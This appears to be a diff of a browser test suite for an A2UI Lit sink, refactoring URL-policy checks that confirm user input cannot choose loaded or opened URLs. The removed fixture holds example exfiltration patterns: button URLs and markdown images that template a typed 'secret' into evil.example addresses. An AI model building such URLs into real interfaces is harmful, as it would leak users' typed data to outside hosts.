@@ -5,10 +5,11 @@
 import { renderMarkdown } from '@a2ui/markdown-it';
 import { basicCatalog as litBasicCatalog } from '@a2ui/lit/v0_9';
 import { MessageProcessor } from '@a2ui/web_core/v0_9';
-import { BASIC_CATALOG_ID_V10, type A2uiError, type A2uiMessage, type Part } from '../../src/index.js';
+import type { A2uiError, A2uiMessage, Part } from '../../src/index.js';
 import { a2uiLitSink, type A2uiLitSinkOptions } from '../../src/lit/index.js';
 import { dialectHint, dialectTwins } from './dialect.js';
 import { rebindUrls } from './rebind-urls.js';
+import { evilSeen, frames, recordingOpen, userInputMessages } from './url-fixtures.js';
 
 /** One check's outcome. */
 export interface OptionCheck {
@@ -257,13 +258,8 @@ async function urlPolicy(): Promise<OptionCheck> {
   return { name: 'URL policy: model-written images load, typed URLs and markdown images do not', ok, detail: JSON.stringify({ sources, bubble }) };
 }
 
-/** Every `<img>` source in the sink's surfaces, and what the page requested of evil.example. */
-function evilSeen(container: HTMLElement): string[] {
-  const roots = [...container.querySelectorAll('a2ui-surface')].map((surface) => surface.shadowRoot);
-  const sources = roots.flatMap((root) => [...(root?.querySelectorAll('img') ?? [])].map((img) => img.getAttribute('src') ?? ''));
-  const requested = performance.getEntriesByType('resource').map((entry) => entry.name);
-  return [...sources, ...requested].filter((url) => url.includes('evil.example'));
-}
+/** The model-written Image of the user-input check. */
+const OWN_IMAGE = 'https://cdn.example/logo.png';
 
 /**
  * The probe's holes 5 and 6 (#37): a button's openUrl of a URL built from a text field, or an
@@ -271,78 +267,10 @@ function evilSeen(container: HTMLElement): string[] {
  * a Text's markdown image built from the text field loads nothing with markdown images on. An
  * https: openUrl the model wrote opens, and a model-written Image loads (the clicks work).
  */
-async function userInputUrls(): Promise<OptionCheck> {
+function userInputUrls(): Promise<OptionCheck> {
   const container = box();
-  const opened: string[] = [];
-  const open = window.open;
-  window.open = (url?: string | URL) => {
-    opened.push(String(url));
-    return null;
-  };
-  try {
-    const v10 = (body: Record<string, unknown>) => ({ version: 'v1.0', ...body }) as unknown as A2uiMessage;
-    const formatted = (value: string) => ({ call: 'formatString', args: { value } });
-    await write(
-      container,
-      [
-        {
-          type: 'a2ui',
-          messages: [
-            create('pick'),
-            components('pick', [
-              { id: 'root', component: 'Column', children: ['choice', 'img', 'own', 'plain', 'docs'] },
-              {
-                id: 'choice',
-                component: 'ChoicePicker',
-                label: 'Your condition',
-                variant: 'mutuallyExclusive',
-                options: [
-                  { label: 'Diabetes', value: 'https://evil.example/diabetes.png' },
-                  { label: 'Asthma', value: 'https://evil.example/asthma.png' },
-                ],
-                value: { path: '/choice' },
-              },
-              { id: 'img', component: 'Image', url: { path: '/choice/0' }, description: 'img' },
-              { id: 'own', component: 'Image', url: 'https://cdn.example/logo.png' },
-              {
-                id: 'plain',
-                component: 'Button',
-                child: 'plainLabel',
-                action: { functionCall: { call: 'openUrl', args: { url: 'http://evil.example/plain' } } },
-              },
-              { id: 'plainLabel', component: 'Text', text: 'Plain' },
-              {
-                id: 'docs',
-                component: 'Button',
-                child: 'docsLabel',
-                action: { functionCall: { call: 'openUrl', args: { url: 'https://docs.example/help' } } },
-              },
-              { id: 'docsLabel', component: 'Text', text: 'Docs' },
-            ]),
-            v09({ updateDataModel: { surfaceId: 'pick', path: '/choice', value: [] } }),
-            v10({ createSurface: { surfaceId: 'typed', catalogId: BASIC_CATALOG_ID_V10 } }),
-            v10({
-              updateComponents: {
-                surfaceId: 'typed',
-                components: [
-                  { id: 'root', component: 'Column', children: ['field', 'go', 'md'] },
-                  { id: 'field', component: 'TextField', label: 'Search', value: { path: '/q' } },
-                  {
-                    id: 'go',
-                    component: 'Button',
-                    child: 'goLabel',
-                    action: { functionCall: { call: 'openUrl', args: { url: formatted('https://evil.example/?q=${/q}') } } },
-                  },
-                  { id: 'goLabel', component: 'Text', text: 'Go' },
-                  { id: 'md', component: 'Text', text: formatted('Hi ![x](https://evil.example/md-${/q}.png)') },
-                ],
-              },
-            }),
-          ],
-        },
-      ],
-      { markdown: renderMarkdown, markdownImages: true },
-    );
+  return recordingOpen(async (opened) => {
+    await write(container, [{ type: 'a2ui', messages: userInputMessages(OWN_IMAGE) }], { markdown: renderMarkdown, markdownImages: true });
     const [pick, typed] = [...container.querySelectorAll('a2ui-surface')].map((surface) => surface.shadowRoot);
     pick?.querySelectorAll<HTMLInputElement>('input.a2ui-option-input')[1]?.click();
     const input = typed?.querySelector('input');
@@ -350,21 +278,19 @@ async function userInputUrls(): Promise<OptionCheck> {
       input.value = 'my secret';
       input.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
     }
-    for (let i = 0; i < 3; i++) await frame();
+    await frames(3);
     for (const button of [...(pick?.querySelectorAll('button') ?? []), ...(typed?.querySelectorAll('button') ?? [])]) button.click();
-    for (let i = 0; i < 3; i++) await frame();
+    await frames(3);
     await new Promise((resolve) => setTimeout(resolve, 300));
-    const evil = evilSeen(container);
-    const own = [...(pick?.querySelectorAll('img') ?? [])].some((img) => img.getAttribute('src') === 'https://cdn.example/logo.png');
+    const evil = evilSeen([pick, typed].filter((root) => root !== null && root !== undefined));
+    const own = [...(pick?.querySelectorAll('img') ?? [])].some((img) => img.getAttribute('src') === OWN_IMAGE);
     const ok = input !== null && input !== undefined && own && evil.length === 0 && opened.length === 1 && opened[0] === 'https://docs.example/help';
     return {
       name: "URL policy: the user's input picks no URL (openUrl, an Image on a choice, a markdown image)",
       ok,
       detail: JSON.stringify({ evil, opened, own }),
     };
-  } finally {
-    window.open = open;
-  }
+  });
 }
 
 /** web_core writes later data-model updates into the values it holds: the sink gives it copies. */
